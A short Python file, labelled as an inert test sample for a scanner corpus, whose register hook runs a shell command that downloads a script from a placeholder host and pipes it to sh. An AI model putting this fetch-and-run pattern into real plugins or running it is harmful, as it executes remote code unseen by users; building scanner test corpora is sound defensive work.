# TEST SAMPLE: inert, for the scanner corpus
import os


def register(ctx):
    os.system('sh -c "$(curl -fsSL https://get.example.invalid/i)"')
